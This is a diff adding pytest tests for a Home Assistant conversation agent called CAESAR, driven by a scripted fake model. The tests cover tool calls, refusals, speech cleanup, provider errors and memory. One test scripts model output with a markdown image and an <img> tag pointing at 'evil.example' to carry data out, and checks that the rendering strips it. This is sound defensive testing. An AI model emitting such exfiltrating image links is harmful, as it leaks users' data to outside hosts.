@@ -1,0 +1,186 @@
+"""What Assist shows of a turn: text as it comes, calls that Home Assistant never runs."""
+
+from typing import Any
+
+from homeassistant.auth.models import User
+from homeassistant.components import conversation
+from homeassistant.components.conversation.chat_log import async_subscribe_chat_logs
+from homeassistant.core import Context, HomeAssistant
+import pytest
+
+from custom_components.caesar.brain.provider import (
+    Completed,
+    ErrorKind,
+    ProviderError,
+    StopReason,
+    TextDelta,
+)
+from custom_components.caesar.turn import ToolRequest
+import custom_components.demo_house  # noqa: F401  before Home Assistant looks for it
+from house.in_hass import async_build_house
+from tests.fakes.provider import ScriptedProvider, Step
+from tests.ha.house import CaesarHouse, async_move_in
+
+END = Completed(stop=StopReason.END)
+CALLS = Completed(stop=StopReason.TOOL_USE)
+SATELLITE = "assist_satellite.childrens_room_satellite"
+
+
+@pytest.fixture
+async def house(hass: HomeAssistant, hass_admin_user: User) -> CaesarHouse:
+    """Return CAESAR in the demo house."""
+    await async_build_house(hass)
+    return await async_move_in(hass, hass_admin_user.id)
+
+
+def turn_on(entity_id: str) -> ToolRequest:
+    """Return a call."""
+    return ToolRequest(
+        id="call-1",
+        name="call_service",
+        arguments={
+            "domain": "light",
+            "service": "turn_on",
+            "target": {"entity_id": entity_id},
+        },
+    )
+
+
+async def converse(
+    house: CaesarHouse, steps: list[Step], context: Context, **more: Any
+) -> tuple[conversation.ConversationResult, list[dict[str, Any]]]:
+    """Run a turn of a scripted model, and return the answer and the log's contents."""
+    house.assistant._providers = (ScriptedProvider(steps),)
+    added: list[dict[str, Any]] = []
+
+    def keep(conversation_id: str, event_type: Any, data: dict[str, Any]) -> None:
+        if "content" in data and isinstance(data["content"], dict):
+            added.append(data["content"])
+
+    unsubscribe = async_subscribe_chat_logs(house.hass, keep)
+    result = await conversation.async_converse(
+        house.hass, "go", None, context, "en", agent_id="conversation.caesar", **more
+    )
+    unsubscribe()
+    return result, added
+
+
+async def test_calls_and_results_are_shown_and_run_once(house: CaesarHouse) -> None:
+    """The call is in the log, as the gate carried it out, once."""
+    runs: list[str] = []
+    house.hass.bus.async_listen(
+        "call_service", lambda event: runs.append(event.data["domain"])
+    )
+    result, added = await converse(
+        house,
+        [
+            [TextDelta(text="One moment. "), turn_on("light.kitchen_light"), CALLS],
+            [TextDelta(text="The light "), TextDelta(text="is on!"), END],
+        ],
+        Context(user_id=house.user_id),
+    )
+    assert runs == ["light"]
+    roles = [content["role"] for content in added]
+    assert roles == ["user", "assistant", "tool_result", "assistant"]
+    assert added[1]["content"] == "One moment. "
+    assert added[1]["tool_calls"][0].tool_name == "call_service"
+    assert added[2]["result"]["error"] is False
+    assert added[3]["content"] == "The light is on!"
+    assert result.response.speech["plain"]["speech"] == "The light is on!"
+
+
+async def test_a_refusal_is_shown_as_an_error(house: CaesarHouse) -> None:
+    """A model's claim doesn't turn a refusal into a success."""
+    _, added = await converse(
+        house,
+        [[turn_on("light.path_light"), CALLS], [TextDelta(text="Done."), END]],
+        Context(user_id=house.user_id),
+    )
+    [result] = [content for content in added if content["role"] == "tool_result"]
+    assert result["result"]["error"] is True
+    assert result["result"]["data"]["code"] == "capability_denied"
+
+
+async def test_images_are_never_shown(house: CaesarHouse) -> None:
+    """An image's address carries data out: it becomes a link nobody follows."""
+    result, added = await converse(
+        house,
+        [
+            [
+                TextDelta(text="Look !"),
+                TextDelta(text="[x](https://evil.example/?d=locked) <"),
+                TextDelta(text="img src=https://evil.example>"),
+                END,
+            ]
+        ],
+        Context(user_id=house.user_id),
+    )
+    shown = added[-1]["content"]
+    assert "![" not in shown
+    assert "<img" not in shown
+    assert result.response.speech["plain"]["speech"] == shown
+
+
+async def test_a_satellite_hears_clean_text(house: CaesarHouse) -> None:
+    """What is spoken has no markup; the rich text is kept beside it."""
+    result, added = await converse(
+        house,
+        [[TextDelta(text="**Done.** See [this](https://a.example) 💡"), END]],
+        Context(),
+        satellite_id=SATELLITE,
+    )
+    spoken = result.response.speech["plain"]
+    assert spoken["speech"] == "Done. See this"
+    assert spoken["extra_data"]["text"].startswith("**Done.**")
+    assert added[-1]["content"] == "Done. See this"
+
+
+@pytest.mark.parametrize("kind", list(ErrorKind))
+async def test_a_broken_provider_is_said_in_words(
+    house: CaesarHouse, kind: ErrorKind
+) -> None:
+    """Every failure ends in a sentence, and an answer that broke off stays visible."""
+    result, added = await converse(
+        house,
+        [[TextDelta(text="Well, "), ProviderError(kind)]],
+        Context(user_id=house.user_id),
+    )
+    shown = result.response.speech["plain"]["speech"]
+    assert shown.startswith("Well,")
+    assert len(shown) > 20
+    assert result.response.response_type.value == "error"
+    assert added[-1]["content"].strip() == shown.strip()
+
+
+async def test_an_answer_without_words_gets_some(house: CaesarHouse) -> None:
+    """A model that says nothing doesn't leave a person without an answer."""
+    result, added = await converse(house, [[END]], Context(user_id=house.user_id))
+    assert "no answer" in result.response.speech["plain"]["speech"]
+    assert added[-1]["role"] == "assistant"
+
+
+async def test_the_next_turn_remembers_the_last(house: CaesarHouse) -> None:
+    """History comes from CAESAR's own memory, not from Home Assistant's log."""
+    provider = ScriptedProvider([[TextDelta(text="Hi."), END]])
+    house.assistant._providers = (provider,)
+    for text in ("my cat is black", "what colour is my cat?"):
+        await conversation.async_converse(
+            house.hass,
+            text,
+            "chat-1",
+            Context(user_id=house.user_id),
+            "en",
+            agent_id="conversation.caesar",
+        )
+    texts = [getattr(message, "text", "") for message in provider.requests[1].messages]
+    assert texts == ["my cat is black", "Hi.", "what colour is my cat?"]
+    other = await conversation.async_converse(
+        house.hass,
+        "and mine?",
+        "chat-1",
+        Context(),
+        "en",
+        agent_id="conversation.caesar",
+    )
+    assert other.conversation_id == "chat-1"
+    assert len(provider.requests[2].messages) == 1
